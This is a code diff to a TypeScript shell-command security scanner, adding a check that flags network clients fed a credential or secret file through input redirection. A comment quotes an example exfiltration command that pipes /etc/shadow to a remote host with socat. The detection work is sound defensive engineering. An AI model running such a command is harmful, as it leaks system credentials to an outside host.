@@ -7,6 +7,7 @@
 
 import { quote } from './findings.ts';
 import { isBlockDevice, sensitiveFile } from './paths.ts';
+import { secretFile } from './secret-files.ts';
 import type { RiskAssessment } from './risk-class.ts';
 import { analyzeCommand } from './shell-commands.ts';
 import { codeRule, writeTarget } from './shell-rule-context.ts';
@@ -382,6 +383,9 @@ class Walker {
           const sender = summaryNames(summary).find((name) => STDIN_SENDERS.has(name));
           if (sender !== undefined && summaryNames(summary).length > 1)
             scan.add('critical', `shell: sends ${why} ${quote(target)} over the network (loop reading it runs ${sender})`);
+          // `socat - TCP:host:80 < /etc/shadow`: the file is the sender's input.
+          else if (summary.netClient !== undefined && (why === 'credential file' || secretFile(target) !== undefined))
+            scan.add('critical', `shell: sends ${why} ${quote(target)} over the network (${summary.netClient} < file)`);
         }
       }
       if (redirect.heredoc !== undefined && summary.interpreterStdin === undefined && redirect.heredoc.length > 16) {
